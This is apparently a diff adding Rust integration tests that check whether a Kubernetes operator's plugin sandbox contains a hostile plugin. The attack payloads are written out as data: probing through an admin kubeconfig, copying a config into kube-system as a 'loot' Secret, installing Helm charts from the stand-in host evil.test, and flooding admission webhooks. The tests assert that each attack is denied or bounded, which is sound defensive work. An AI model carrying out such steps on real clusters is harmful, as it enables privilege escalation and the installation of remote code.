@@ -306,6 +306,156 @@ async fn a_plugin_with_every_grant_obtains_no_credential_and_every_denial_is_rep
     .await;
 }
 
+/// The attack of the sandbox's third round: the plugin writes the name of the admin kubeconfig into its own status
+/// (a field it declared as a secret field), then installs, reads and probes through it. Only the spec names what a
+/// call may read, install or write; a name in the status reaches only the removal of what the object made.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_kubeconfig_named_only_by_the_plugins_own_status_reaches_no_cluster() {
+    let env = Env::start_with(vec![hostile(&EVERYTHING)]).await;
+    exported_kubeconfig(&env).await;
+    env.apply(&release(
+        "s",
+        "app-config",
+        json!([{"do": "claim", "name": "edge-kubeconfig"}]),
+    ))
+    .await;
+    let obj = env
+        .wait("OmniHelmRelease", "s", "the claim", |o| {
+            o["status"]["releaseName"] == "edge-kubeconfig"
+        })
+        .await;
+    let uid = obj["metadata"]["uid"].as_str().expect("uid").to_string();
+    let edge = json!({"name": "edge-kubeconfig", "key": "kubeconfig"});
+    let attacks = json!([
+        // 0-6: reads, installs and writes through the status-named kubeconfig.
+        {"do": "probe", "name": "edge-kubeconfig", "key": "kubeconfig"},
+        {"do": "copy", "kubeconfig": edge, "source": "app-config", "targetNamespace": "kube-system",
+            "targetName": "loot", "ownerKey": "omni.texashpc.com/owner", "ownerValue": uid},
+        {"do": "helmEnsure", "kubeconfig": edge, "chart": "oci://evil.test/loot"},
+        {"do": "helmInstall", "kubeconfig": edge, "chart": "oci://evil.test/loot"},
+        {"do": "helmRead", "kubeconfig": edge, "release": "cilium", "releaseNamespace": "kube-system"},
+        {"do": "helmDrift", "kubeconfig": edge, "release": "cilium", "releaseNamespace": "kube-system"},
+        {"do": "helmStatus", "kubeconfig": edge, "release": "cilium"},
+        // 7-8: cleaning up what the object made stays possible through it (owner-checked by the host).
+        {"do": "workloadDelete", "kubeconfig": edge, "targetNamespace": "apps", "targetName": "mine",
+            "ownerKey": "omni.texashpc.com/owner", "ownerValue": uid},
+        {"do": "helmUninstall", "kubeconfig": edge, "release": "mine", "releaseNamespace": "apps"},
+    ]);
+    env.apply(&release("s", "app-config", attacks)).await;
+    let obj = env
+        .wait("OmniHelmRelease", "s", "the attacks' report", |o| {
+            results(o).len() == 9
+        })
+        .await;
+    let r = results(&obj);
+    for (i, result) in r.iter().enumerate().take(7) {
+        assert!(denied(result), "attack {i} was not denied: {result}");
+        assert!(
+            result["error"]
+                .as_str()
+                .unwrap_or_default()
+                .contains("a name in the status reaches only the removal"),
+            "attack {i}: {result}"
+        );
+    }
+    for (i, result) in r.iter().enumerate().skip(7) {
+        assert!(
+            !denied(result),
+            "cleanup {i} through the status-named kubeconfig was denied: {result}"
+        );
+    }
+    assert!(
+        env.workload
+            .get("v1", "Secret", "kube-system", "loot")
+            .is_none(),
+        "a Secret was written into the cluster the status named"
+    );
+}
+
+/// A status the CRD refuses leaves the object neither dark nor stuck: the failure is reported over the stored
+/// status (which the API server accepts), its Event note is cut to the API's limit, and the next good reconcile
+/// writes the plugin's status again.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_status_the_api_server_refuses_is_reported_and_the_next_good_reconcile_repairs_it() {
+    let env = Env::start_with(vec![hostile(&EVERYTHING)]).await;
+    env.apply(&release(
+        "r",
+        "app-config",
+        json!([{"do": "badStatus", "bytes": 5000}]),
+    ))
+    .await;
+    let obj = env
+        .wait("OmniHelmRelease", "r", "Ready=False StatusRefused", |o| {
+            is(o, "Ready", "False", "StatusRefused")
+        })
+        .await;
+    let message = super::workload_access::message(&obj, "Ready");
+    assert!(
+        message.starts_with("the API server refused the status plugin \"hostile\" returned"),
+        "{message}"
+    );
+    let deadline = Instant::now() + Duration::from_secs(20);
+    loop {
+        let events = env.kube.list("events.k8s.io/v1", "Event", Some(NS));
+        let refused: Vec<&Value> = events
+            .iter()
+            .filter(|e| e["reason"] == "StatusRefused" && e["regarding"]["name"] == "r")
+            .collect();
+        if let Some(e) = refused.first() {
+            let note = e["note"].as_str().unwrap_or_default();
+            assert!(note.len() <= 1024, "an Event note of {} bytes", note.len());
+            break;
+        }
+        assert!(Instant::now() < deadline, "no StatusRefused Event");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    // The plugin behaves again: its status is written, the refused one is not retried.
+    env.apply(&release("r", "app-config", json!([]))).await;
+    env.wait("OmniHelmRelease", "r", "the good status", |o| {
+        super::workload_access::message(o, "Attacks") == "[]"
+    })
+    .await;
+}
+
+/// Work a plugin hands to Helm is bounded before Helm sees it: values by size (a megabyte values part is refused
+/// before it is parsed), actions by count (distinct installs started in a loop stop at the per-call budget).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn helm_work_a_plugin_hands_over_is_bounded() {
+    let env = Env::start_with(vec![hostile(&EVERYTHING)]).await;
+    exported_kubeconfig(&env).await;
+    let edge = json!({"name": "edge-kubeconfig", "key": "kubeconfig"});
+    let attacks = json!([
+        {"do": "helmInstall", "kubeconfig": edge, "chart": "oci://evil.test/loot",
+            "valuesBytes": omni_operator::capabilities::MAX_VALUES_BYTES,
+            "releaseNamespace": "apps"},
+        {"do": "helmStarts", "kubeconfig": edge, "chart": "oci://evil.test/loot", "count": 40,
+            "releaseNamespace": "apps"},
+    ]);
+    // The object's spec names the kubeconfig, so every call passes the reach check and meets the budgets.
+    env.apply(&release("b", "edge-kubeconfig", attacks)).await;
+    let obj = env
+        .wait("OmniHelmRelease", "b", "the attacks' report", |o| {
+            results(o).len() == 2
+        })
+        .await;
+    let r = results(&obj);
+    let refusal = r[0]["error"].as_str().unwrap_or_default();
+    assert!(
+        refusal.starts_with("HostError::Invalid(")
+            && refusal.contains("a release's values may be at most"),
+        "{}",
+        r[0]
+    );
+    // This host runs no Helm, so each start that passes the budget answers `unavailable` from the engine; the
+    // ones past the budget are refused before.
+    let last = r[1]["last"]["error"].as_str().unwrap_or_default();
+    assert!(
+        last.contains("a call may start at most 4 Helm actions"),
+        "the 40th start was not refused by the budget: {}",
+        r[1]
+    );
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn floods_of_calls_events_requeues_and_log_bytes_are_bounded_by_the_host() {
     let env = Env::start_with(vec![hostile(&["clock"])]).await;
@@ -734,5 +884,162 @@ async fn denials_beyond_the_recorded_ones_are_counted() {
         done.outputs.denials.len() + done.outputs.denials_dropped,
         20,
         "every refusal is recorded or counted"
+    );
+}
+
+/// An AdmissionReview of `plugin`'s first kind creating an object with `spec`, and the path it goes to.
+fn review_of(
+    plugin: &omni_operator::runtime::LoadedPlugin,
+    uid: &str,
+    spec: Value,
+) -> (String, Vec<u8>) {
+    let gvk = plugin.info().kinds.first().cloned().expect("a kind");
+    let review = json!({
+        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
+        "request": {"uid": uid, "kind": {"group": gvk.group, "version": gvk.version, "kind": gvk.kind},
+            "name": "x", "namespace": NS, "operation": "CREATE",
+            "object": {"apiVersion": gvk.api_version(), "kind": gvk.kind,
+                "metadata": {"name": "x", "namespace": NS, "uid": uid}, "spec": spec}},
+    });
+    let path = omni_operator::admission::validate_path(&gvk.group, &gvk.version, &gvk.kind);
+    (path, review.to_string().into_bytes())
+}
+
+/// A hostile `validate` behind the admission webhooks: its answers are cut to a few kilobytes (as many causes as
+/// the host keeps, warnings as the API server cuts them); its traps and abandoned calls count in its version's
+/// figures, which canaries and rollbacks judge; and a flood of slow reviews of its kind never fails another
+/// kind's admission, because each kind is decided in a pool of its own.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn validate_answers_are_bounded_and_one_kinds_flood_leaves_another_kinds_admission_alone() {
+    use omni_operator::admission::{FailurePolicy, Webhooks};
+    use omni_operator::runtime::PluginRegistry;
+    use std::sync::Arc;
+
+    // As many calls at once as the host has permits, each as long as the webhook lets it: without a pool per
+    // kind, its flood holds every permit until the deadline, wave after wave, and another kind's review queues
+    // behind it past its own deadline.
+    let limits = omni_operator::runtime::CallLimits {
+        max_concurrent: 256,
+        timeout: Duration::from_secs(60),
+        ..Default::default()
+    };
+    let hostile = try_load("hostile", hostile_grants(&[]), Some(limits))
+        .await
+        .expect("the hostile plugin loads");
+    let echo = load("echo", support::echo_grants()).await;
+    let registry = Arc::new(PluginRegistry::new());
+    registry.install(hostile.clone());
+    registry.install(echo.clone());
+    let webhooks = Arc::new(Webhooks::new(
+        registry,
+        Duration::from_secs(3),
+        FailurePolicy::Fail,
+    ));
+
+    // 200,000 causes, an 8 MiB detail and an 8 MiB warning become an answer of a few kilobytes.
+    let huge = json!({"chart": {"values": {"validate": {"errors": 200_000, "detailBytes": 8 << 20,
+        "warnings": 50, "warningBytes": 8 << 20}}}});
+    let (path, body) = review_of(&hostile, "u-huge", huge);
+    let (status, answer) = webhooks.answer(&path, &body).await;
+    assert_eq!(status, 200);
+    let size = answer.to_string().len();
+    assert!(size < 256 << 10, "the answer is {size} bytes");
+    let response = &answer["response"];
+    assert_eq!(response["allowed"], false);
+    let causes = response["status"]["details"]["causes"]
+        .as_array()
+        .expect("causes");
+    assert_eq!(causes.len(), omni_operator::runtime::MAX_CAUSES + 1);
+    assert!(
+        causes.last().expect("a cause")["message"]
+            .as_str()
+            .is_some_and(|m| m.contains("199900 more errors not shown")),
+        "{}",
+        causes.last().expect("a cause")
+    );
+    let warnings: Vec<&str> = response["warnings"]
+        .as_array()
+        .expect("warnings")
+        .iter()
+        .filter_map(Value::as_str)
+        .collect();
+    assert!(
+        warnings
+            .iter()
+            .all(|w| w.len() <= omni_operator::runtime::MAX_WARNING)
+    );
+    assert!(
+        warnings.iter().map(|w| w.len()).sum::<usize>()
+            <= omni_operator::runtime::MAX_WARNINGS_TOTAL
+    );
+
+    // Traps and abandoned calls of `validate` count as reconciles' do.
+    let before = hostile.usage().figures();
+    let (path, body) = review_of(
+        &hostile,
+        "u-trap",
+        json!({"chart": {"values": {"validate": {"trap": true}}}}),
+    );
+    let (_, answer) = webhooks.answer(&path, &body).await;
+    assert_eq!(answer["response"]["status"]["code"], 500, "{answer}");
+    let after = hostile.usage().figures();
+    assert_eq!(after.calls, before.calls + 1);
+    assert_eq!(after.rollback_failures, before.rollback_failures + 1);
+
+    // A flood that never lets up: 200 clients, each sending a review that spins until the deadline, then the
+    // next, far more than a kind's pool holds.
+    let spin = json!({"chart": {"values": {"validate": {"spin": true}}}});
+    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let mut flood = Vec::new();
+    for i in 0..200 {
+        let (path, body) = review_of(&hostile, &format!("u-spin-{i}"), spin.clone());
+        let (webhooks, stop) = (webhooks.clone(), stop.clone());
+        flood.push(tokio::spawn(async move {
+            let mut answers = Vec::new();
+            while !stop.load(Ordering::Relaxed) {
+                answers.push(webhooks.answer(&path, &body).await);
+            }
+            answers
+        }));
+    }
+    // Once the flood has been turned away a few times it holds every slot it can get.
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while webhooks.stats.undecided.load(Ordering::Relaxed) < 3 {
+        assert!(Instant::now() < deadline, "the flood was never turned away");
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    // Another kind's review is decided by its own plugin (echo refuses a missing spec.configMap), not undecided.
+    let (path, body) = review_of(&echo, "u-echo", json!({}));
+    let (_, answer) = webhooks.answer(&path, &body).await;
+    stop.store(true, Ordering::Relaxed);
+    assert_eq!(
+        answer["response"]["status"]["code"], 422,
+        "another kind's admission failed: {answer}"
+    );
+    // The flood held at most its kind's pool: the rest was turned away at once, not queued for the host's
+    // permits (which reconciles and every other kind share).
+    let mut turned_away = 0;
+    for task in flood {
+        for (status, answer) in task.await.expect("a client") {
+            assert_eq!(status, 200);
+            assert_eq!(answer["response"]["allowed"], false);
+            let message = answer["response"]["status"]["message"]
+                .as_str()
+                .unwrap_or_default();
+            if message.contains("reviews of OmniHelmRelease are being decided already") {
+                turned_away += 1;
+            }
+        }
+    }
+    assert!(
+        turned_away > 0,
+        "the flood was never held to its kind's pool"
+    );
+    let spun = hostile.usage().figures();
+    assert!(
+        spun.traps_by_class
+            .iter()
+            .any(|(class, n)| *class == "PluginTimeout" && *n > 0),
+        "abandoned validate calls were not counted: {spun:?}"
     );
 }
